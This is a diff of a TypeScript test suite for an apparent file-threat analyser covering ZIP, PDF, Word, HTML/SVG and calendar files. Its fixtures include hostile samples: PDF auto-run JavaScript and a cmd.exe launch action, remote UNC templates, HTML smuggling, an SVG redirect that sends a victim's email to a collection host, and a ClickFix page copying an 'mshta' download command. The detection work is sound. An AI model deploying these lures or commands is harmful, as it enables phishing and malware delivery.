@@ -15,8 +15,27 @@ import { inspectRtf } from '../../src/analysis/formats/rtf.ts';
 import { sniff } from '../../src/analysis/formats/sniff.ts';
 import { listZip, readZipEntry } from '../../src/analysis/formats/zip.ts';
 import {
-  JPEG, PLAIN_HTML, PLAIN_RTF, SMUGGLING_HTML, biff, contentPdf, docx, ics, isoImage, latin1Bytes, ole, ole10Native, pdf,
-  pdfWithObjectStream, textPdf, peStub, relationships, rtfWithObject, storedZip, utf8, zip,
+  JPEG,
+  PLAIN_HTML,
+  PLAIN_RTF,
+  SMUGGLING_HTML,
+  biff,
+  contentPdf,
+  docx,
+  ics,
+  isoImage,
+  latin1Bytes,
+  ole,
+  ole10Native,
+  pdf,
+  pdfWithObjectStream,
+  textPdf,
+  peStub,
+  relationships,
+  rtfWithObject,
+  storedZip,
+  utf8,
+  zip,
 } from './formats-builders.ts';
 
 const facts = (bytes: Uint8Array, name: string, declaredType = 'application/octet-stream'): FileFacts =>
@@ -74,7 +93,13 @@ describe('names', () => {
 describe('zip', () => {
   it('lists names, sizes and methods from the central directory', () => {
     const listing = listZip(zip({ 'a.txt': 'hello hello hello', 'dir/b.bin': new Uint8Array(10) }), DEFAULT_LIMITS)!;
-    assert.deepEqual(listing.entries.map((entry) => [entry.name, entry.size, entry.encrypted]), [['a.txt', 17, false], ['dir/b.bin', 10, false]]);
+    assert.deepEqual(
+      listing.entries.map((entry) => [entry.name, entry.size, entry.encrypted]),
+      [
+        ['a.txt', 17, false],
+        ['dir/b.bin', 10, false],
+      ],
+    );
     assert.equal(listing.truncated, false);
     assert.equal(listing.bomb, false);
   });
@@ -106,7 +131,10 @@ describe('zip', () => {
     const whole = storedZip([{ name: 'a.txt', data: utf8('abc') }]);
     const cut = whole.subarray(0, 30 + 5 + 3);
     const listing = listZip(cut, DEFAULT_LIMITS)!;
-    assert.deepEqual(listing.entries.map((entry) => entry.name), ['a.txt']);
+    assert.deepEqual(
+      listing.entries.map((entry) => entry.name),
+      ['a.txt'],
+    );
   });
   it('is not fooled by non-ZIP bytes', () => {
     assert.equal(listZip(utf8('just some text'), DEFAULT_LIMITS), undefined);
@@ -115,41 +143,59 @@ describe('zip', () => {
 
 describe('pdf', () => {
   it('finds OpenAction JavaScript and the URIs of link annotations', () => {
-    const findings = inspectPdf(pdf([
-      '<< /Type /Catalog /Pages 3 0 R /OpenAction 2 0 R >>',
-      '<< /S /JavaScript /JS (app.launchURL\\("https://x.invalid/p"\\);) >>',
-      '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
-      '<< /Type /Page /Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.com/pay?id=1) >> >>] >>',
-    ]), DEFAULT_LIMITS);
+    const findings = inspectPdf(
+      pdf([
+        '<< /Type /Catalog /Pages 3 0 R /OpenAction 2 0 R >>',
+        '<< /S /JavaScript /JS (app.launchURL\\("https://x.invalid/p"\\);) >>',
+        '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
+        '<< /Type /Page /Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.com/pay?id=1) >> >>] >>',
+      ]),
+      DEFAULT_LIMITS,
+    );
     assert.equal(findings.javascript, true);
     assert.equal(findings.openAction, true);
     assert.deepEqual(findings.uris, ['https://example.com/pay?id=1']);
   });
   it('treats an OpenAction that only shows a page as passive', () => {
-    const findings = inspectPdf(pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page >>']), DEFAULT_LIMITS);
+    const findings = inspectPdf(
+      pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page >>']),
+      DEFAULT_LIMITS,
+    );
     assert.equal(findings.openAction, false);
     assert.equal(findings.javascript, false);
   });
   it('decodes hex-escaped names and hex and UTF-16 strings', () => {
-    const findings = inspectPdf(pdf([
-      '<< /Type /Catalog /Names << /J#61vaScript 2 0 R >> >>',
-      '<< /A << /S /URI /URI <68747470733A2F2F6578616D706C652E6F72672F> >> >>',
-      '<< /A << /S /URI /URI (\xfe\xff\x00h\x00t\x00t\x00p\x00:\x00/\x00/\x00a\x00.\x00b) >> >>',
-    ]), DEFAULT_LIMITS);
+    const findings = inspectPdf(
+      pdf([
+        '<< /Type /Catalog /Names << /J#61vaScript 2 0 R >> >>',
+        '<< /A << /S /URI /URI <68747470733A2F2F6578616D706C652E6F72672F> >> >>',
+        '<< /A << /S /URI /URI (\xfe\xff\x00h\x00t\x00t\x00p\x00:\x00/\x00/\x00a\x00.\x00b) >> >>',
+      ]),
+      DEFAULT_LIMITS,
+    );
     assert.equal(findings.javascript, true);
     assert.deepEqual(findings.uris, ['https://example.org/', 'http://a.b']);
   });
   it('reads actions and links hidden in a compressed object stream', () => {
-    const findings = inspectPdf(pdfWithObjectStream(['<< /S /Launch /F (cmd.exe) >>', '<< /A << /S /URI /URI (https://hidden.example/) >> >>']), DEFAULT_LIMITS);
+    const findings = inspectPdf(
+      pdfWithObjectStream(['<< /S /Launch /F (cmd.exe) >>', '<< /A << /S /URI /URI (https://hidden.example/) >> >>']),
+      DEFAULT_LIMITS,
+    );
     assert.equal(findings.launch, true);
     assert.deepEqual(findings.uris, ['https://hidden.example/']);
   });
   it('names embedded files and notices encryption', () => {
-    const findings = inspectPdf(pdf([
-      '<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(factur-x.xml) 2 0 R] >> >> >>',
-      '<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /EF << /F 3 0 R >> >>',
-      '<< /Type /EmbeddedFile /Length 0 >>',
-    ], '<< /Root 1 0 R /Encrypt 9 0 R >>'), DEFAULT_LIMITS);
+    const findings = inspectPdf(
+      pdf(
+        [
+          '<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(factur-x.xml) 2 0 R] >> >> >>',
+          '<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /EF << /F 3 0 R >> >>',
+          '<< /Type /EmbeddedFile /Length 0 >>',
+        ],
+        '<< /Root 1 0 R /Encrypt 9 0 R >>',
+      ),
+      DEFAULT_LIMITS,
+    );
     assert.deepEqual(findings.embeddedFiles, ['factur-x.xml']);
     assert.equal(findings.encrypted, true);
   });
@@ -179,7 +225,9 @@ describe('pdf: the text its pages show', () => {
     assert.equal(inspectPdf(contentPdf('BT (pixels) Tj ET', { dictionary: ' /Subtype /Image' }), DEFAULT_LIMITS).text, '');
     assert.equal(inspectPdf(contentPdf('BT (glyphs) Tj ET', { dictionary: ' /Length1 40' }), DEFAULT_LIMITS).text, '');
     assert.equal(inspectPdf(contentPdf('BT (glyphs) Tj ET', { dictionary: ' /Filter /DCTDecode' }), DEFAULT_LIMITS).text, '');
-    const encrypted = latin1Bytes(new TextDecoder('latin1').decode(contentPdf('BT (secret) Tj ET')).replace('<< /Root 1 0 R >>', '<< /Root 1 0 R /Encrypt 9 0 R >>'));
+    const encrypted = latin1Bytes(
+      new TextDecoder('latin1').decode(contentPdf('BT (secret) Tj ET')).replace('<< /Root 1 0 R >>', '<< /Root 1 0 R /Encrypt 9 0 R >>'),
+    );
     assert.equal(inspectPdf(encrypted, DEFAULT_LIMITS).text, '');
   });
   it('reads a form XObject like a page, and object streams still for actions', () => {
@@ -189,7 +237,10 @@ describe('pdf: the text its pages show', () => {
   });
   it('keeps the beginning and the end past the text limit, says so, and reads no page when asked for none', () => {
     assert.equal(inspectPdf(contentPdf('BT (text) Tj ET'), { ...DEFAULT_LIMITS, maxTextChars: 0 }).text, '');
-    const { text, textCut } = inspectPdf(contentPdf(`BT ${'(0123456789) Tj '.repeat(50)}(end) Tj ET`, { deflate: true }), { ...DEFAULT_LIMITS, maxTextChars: 25 });
+    const { text, textCut } = inspectPdf(contentPdf(`BT ${'(0123456789) Tj '.repeat(50)}(end) Tj ET`, { deflate: true }), {
+      ...DEFAULT_LIMITS,
+      maxTextChars: 25,
+    });
     assert.equal(text, `${'0123456789'.repeat(3).slice(0, 25)}\n${`${'0123456789'.repeat(3)}end\n`.slice(-25)}`);
     assert.equal(textCut, true);
     assert.equal(inspectPdf(contentPdf('BT (0123456789) Tj ET'), { ...DEFAULT_LIMITS, maxTextChars: 25 }).textCut, false);
@@ -208,7 +259,8 @@ describe('pdf: the text its pages show', () => {
 
 describe('ooxml', () => {
   it('reads the text of a Word body: runs, paragraphs, tabs, entities', () => {
-    const body = '<w:body><w:p><w:r><w:t>Pay &amp; </w:t></w:r><w:r><w:t xml:space="preserve">confirm</w:t></w:r></w:p><w:p><w:r><w:t>Ref</w:t><w:tab/><w:t>&#8364;90</w:t></w:r></w:p></w:body>';
+    const body =
+      '<w:body><w:p><w:r><w:t>Pay &amp; </w:t></w:r><w:r><w:t xml:space="preserve">confirm</w:t></w:r></w:p><w:p><w:r><w:t>Ref</w:t><w:tab/><w:t>&#8364;90</w:t></w:r></w:p></w:body>';
     const document = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${body}</w:document>`;
     assert.equal(inspectOoxml(docx({ 'word/document.xml': document }), DEFAULT_LIMITS)!.text, 'Pay & confirm\nRef €90\n');
     assert.equal(facts(docx(), 'report.docx').text, 'Quarterly figures\n');
@@ -216,43 +268,59 @@ describe('ooxml', () => {
   });
 
   it('finds a VBA project and a remote template, and exports hyperlinks', () => {
-    const findings = inspectOoxml(docx({
-      'word/vbaProject.bin': ole({ 'VBA/dir': new Uint8Array(8) }),
-      'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: 'https://templates.invalid/t.dotm', external: true }]),
-      'word/_rels/document.xml.rels': relationships([{ type: 'hyperlink', target: 'https://example.com/a?x=1&amp;y=2', external: true }]),
-    }), DEFAULT_LIMITS)!;
+    const findings = inspectOoxml(
+      docx({
+        'word/vbaProject.bin': ole({ 'VBA/dir': new Uint8Array(8) }),
+        'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: 'https://templates.invalid/t.dotm', external: true }]),
+        'word/_rels/document.xml.rels': relationships([{ type: 'hyperlink', target: 'https://example.com/a?x=1&amp;y=2', external: true }]),
+      }),
+      DEFAULT_LIMITS,
+    )!;
     assert.equal(findings.application, 'word');
     assert.equal(findings.macros, true);
-    assert.deepEqual(findings.remoteLoads.map((link) => [link.type, link.target]), [['attachedTemplate', 'https://templates.invalid/t.dotm']]);
+    assert.deepEqual(
+      findings.remoteLoads.map((link) => [link.type, link.target]),
+      [['attachedTemplate', 'https://templates.invalid/t.dotm']],
+    );
     assert.deepEqual(findings.hyperlinks, ['https://example.com/a?x=1&y=2']);
   });
   it('leaves a local template and ordinary hyperlinks alone', () => {
-    const findings = inspectOoxml(docx({
-      'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: 'file:///C:\\Users\\ana\\Templates\\Normal.dotm', external: true }]),
-      'word/_rels/document.xml.rels': relationships([{ type: 'hyperlink', target: 'https://example.com/', external: true }]),
-    }), DEFAULT_LIMITS)!;
+    const findings = inspectOoxml(
+      docx({
+        'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: 'file:///C:\\Users\\ana\\Templates\\Normal.dotm', external: true }]),
+        'word/_rels/document.xml.rels': relationships([{ type: 'hyperlink', target: 'https://example.com/', external: true }]),
+      }),
+      DEFAULT_LIMITS,
+    )!;
     assert.equal(findings.macros, false);
     assert.deepEqual(findings.remoteLoads, []);
     assert.equal(findings.external.length, 2);
   });
   it('counts UNC and file-share templates as remote', () => {
-    const findings = inspectOoxml(docx({
-      'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: '\\\\203.0.113.9\\share\\t.dotm', external: true }]),
-    }), DEFAULT_LIMITS)!;
+    const findings = inspectOoxml(
+      docx({
+        'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: '\\\\203.0.113.9\\share\\t.dotm', external: true }]),
+      }),
+      DEFAULT_LIMITS,
+    )!;
     assert.equal(findings.remoteLoads.length, 1);
   });
   it('reads a relationship whose quoted values hold `>`, comments and entities, as an XML reader does', () => {
     const REL_TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
-    const rels = '<?xml version="1.0"?><!-- <Relationship Target="https://decoy.invalid/x" TargetMode="External"/> -->' +
+    const rels =
+      '<?xml version="1.0"?><!-- <Relationship Target="https://decoy.invalid/x" TargetMode="External"/> -->' +
       '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
       `<Relationship Id="rId1" Descr='a > b' Type="${REL_TYPE}/attachedTemplate"\n  Target="https://templates.invalid/t.dotm?a=1&amp;b=&#x32;" TargetMode="External"/>` +
       `<pr:Relationship xmlns:pr="x" Id="rId2" Type="${REL_TYPE}/oleObject" Target='\\\\203.0.113.9\\s\\o.bin' TargetMode='External'></pr:Relationship>` +
       '</Relationships>';
     const findings = inspectOoxml(docx({ 'word/_rels/settings.xml.rels': rels }), DEFAULT_LIMITS)!;
-    assert.deepEqual(findings.remoteLoads.map((link) => [link.type, link.target]), [
-      ['attachedTemplate', 'https://templates.invalid/t.dotm?a=1&b=2'],
-      ['oleObject', '\\\\203.0.113.9\\s\\o.bin'],
-    ]);
+    assert.deepEqual(
+      findings.remoteLoads.map((link) => [link.type, link.target]),
+      [
+        ['attachedTemplate', 'https://templates.invalid/t.dotm?a=1&b=2'],
+        ['oleObject', '\\\\203.0.113.9\\s\\o.bin'],
+      ],
+    );
   });
   it('answers undefined for a ZIP that is not a package', () => {
     assert.equal(inspectOoxml(zip({ 'a.txt': 'x' }), DEFAULT_LIMITS), undefined);
@@ -296,29 +364,59 @@ describe('html', () => {
   });
   it('recognises document.write of decoded markup and data: application URIs', () => {
     assert.deepEqual(inspectHtml(utf8('<script>document.write(unescape("%3C%68%74%6D%6C%3E"))</script>'), DEFAULT_LIMITS).smuggling, ['write_decoded']);
-    assert.deepEqual(inspectHtml(utf8('<a href="data:application/octet-stream;base64,TVqQ" download="a.exe">x</a>'), DEFAULT_LIMITS).smuggling, ['data_application']);
+    assert.deepEqual(inspectHtml(utf8('<a href="data:application/octet-stream;base64,TVqQ" download="a.exe">x</a>'), DEFAULT_LIMITS).smuggling, [
+      'data_application',
+    ]);
   });
   it('recognises a script sending the browser to an address it decodes (the SVG voicemail)', () => {
-    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[var e="amy@example.org";window.location.href=atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvP2U9")+e;]]></script></svg>';
+    const svg =
+      '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[var e="amy@example.org";window.location.href=atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvP2U9")+e;]]></script></svg>';
     assert.deepEqual(inspectHtml(utf8(svg), DEFAULT_LIMITS).smuggling, ['decoded_redirect']);
-    assert.deepEqual(inspectHtml(utf8('<script>location.replace(String.fromCharCode(104,116,116,112))</script>'), DEFAULT_LIMITS).smuggling, ['decoded_redirect']);
+    assert.deepEqual(inspectHtml(utf8('<script>location.replace(String.fromCharCode(104,116,116,112))</script>'), DEFAULT_LIMITS).smuggling, [
+      'decoded_redirect',
+    ]);
     // A saved page that reads its own query string, or redirects in plain sight, hides nothing.
-    assert.deepEqual(inspectHtml(utf8('<script>var q = decodeURIComponent(location.search); if (q) location.href = "/search?q=" + q;</script>'), DEFAULT_LIMITS).smuggling, []);
+    assert.deepEqual(
+      inspectHtml(utf8('<script>var q = decodeURIComponent(location.search); if (q) location.href = "/search?q=" + q;</script>'), DEFAULT_LIMITS).smuggling,
+      [],
+    );
     assert.deepEqual(inspectHtml(utf8('<script>if (location.hash === "") location.href = "https://example.org/";</script>'), DEFAULT_LIMITS).smuggling, []);
   });
   it('recognises a picture whose script navigates, in plain sight too', () => {
-    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><text>Loading…</text><script><![CDATA[window.location.href = "https://collect.example/?r=" + "YW15";]]></script></svg>';
+    const svg =
+      '<svg xmlns="http://www.w3.org/2000/svg"><text>Loading…</text><script><![CDATA[window.location.href = "https://collect.example/?r=" + "YW15";]]></script></svg>';
     assert.deepEqual(inspectHtml(utf8(svg), DEFAULT_LIMITS).smuggling, ['picture_redirect']);
     // An animated picture's script, and a page that embeds an SVG and redirects, are not pictures sending the reader on.
-    assert.deepEqual(inspectHtml(utf8('<svg xmlns="http://www.w3.org/2000/svg"><circle id="c" r="4"/><script>setInterval(function(){c.setAttribute("r", 4 + Math.random())}, 100)</script></svg>'), DEFAULT_LIMITS).smuggling, []);
-    assert.deepEqual(inspectHtml(utf8('<html><body><svg width="10"><rect/></svg><script>if (!window.ok) location.href = "/fallback.html";</script></body></html>'), DEFAULT_LIMITS).smuggling, []);
+    assert.deepEqual(
+      inspectHtml(
+        utf8(
+          '<svg xmlns="http://www.w3.org/2000/svg"><circle id="c" r="4"/><script>setInterval(function(){c.setAttribute("r", 4 + Math.random())}, 100)</script></svg>',
+        ),
+        DEFAULT_LIMITS,
+      ).smuggling,
+      [],
+    );
+    assert.deepEqual(
+      inspectHtml(
+        utf8('<html><body><svg width="10"><rect/></svg><script>if (!window.ok) location.href = "/fallback.html";</script></body></html>'),
+        DEFAULT_LIMITS,
+      ).smuggling,
+      [],
+    );
   });
   it('recognises a script that copies a command for the reader to run (ClickFix)', () => {
-    const captcha = '<input type="checkbox" id="c"><ol><li>Press Windows + R</li><li>Press Ctrl + V</li></ol><script>c.onclick=function(){navigator.clipboard.writeText("mshta https://x.example/v.hta");};</script>';
+    const captcha =
+      '<input type="checkbox" id="c"><ol><li>Press Windows + R</li><li>Press Ctrl + V</li></ol><script>c.onclick=function(){navigator.clipboard.writeText("mshta https://x.example/v.hta");};</script>';
     assert.deepEqual(inspectHtml(utf8(captcha), DEFAULT_LIMITS).smuggling, ['clipboard_command']);
-    assert.deepEqual(inspectHtml(utf8('<script>document.execCommand("copy")</script><p>Press Win+R, paste and press Enter</p>'), DEFAULT_LIMITS).smuggling, ['clipboard_command']);
+    assert.deepEqual(inspectHtml(utf8('<script>document.execCommand("copy")</script><p>Press Win+R, paste and press Enter</p>'), DEFAULT_LIMITS).smuggling, [
+      'clipboard_command',
+    ]);
     // A voucher or licence key copied with a button runs nothing.
-    assert.deepEqual(inspectHtml(utf8('<button onclick="navigator.clipboard.writeText(\'SPRING-25-XQ7\')">Copy code</button><p>Paste it at checkout.</p>'), DEFAULT_LIMITS).smuggling, []);
+    assert.deepEqual(
+      inspectHtml(utf8('<button onclick="navigator.clipboard.writeText(\'SPRING-25-XQ7\')">Copy code</button><p>Paste it at checkout.</p>'), DEFAULT_LIMITS)
+        .smuggling,
+      [],
+    );
   });
   it('stays quiet on a plain page, inline images and fonts', () => {
     const page = `<html><style>@font-face{src:url(data:application/font-woff;base64,${'A'.repeat(9000)})}</style><body><img src="data:image/png;base64,${'B'.repeat(9000)}"><script>var x = atob("aGk=");</script></body></html>`;
@@ -370,7 +468,9 @@ describe('ics, iso and gzip', () => {
     assert.deepEqual(findings.urls, ['https://meet.example.com/abc-def']);
   });
   it("reads the event's title, description and location as text, unescaped, leaving alarms out", () => {
-    const extra = ['DESCRIPTION:Bring the figures\\, please\\; see\\nthe sheet', 'LOCATION:Room 4', 'BEGIN:VALARM', 'DESCRIPTION:Reminder', 'END:VALARM'].join('\r\n');
+    const extra = ['DESCRIPTION:Bring the figures\\, please\\; see\\nthe sheet', 'LOCATION:Room 4', 'BEGIN:VALARM', 'DESCRIPTION:Reminder', 'END:VALARM'].join(
+      '\r\n',
+    );
     assert.equal(inspectIcs(utf8(ics('ana@example.org', extra)), DEFAULT_LIMITS).text, 'Budget review\nBring the figures, please; see\nthe sheet\nRoom 4');
     assert.equal(facts(utf8(ics('ana@example.org', 'LOCATION:Room 4')), 'invite.ics').text, 'Budget review\nRoom 4');
   });
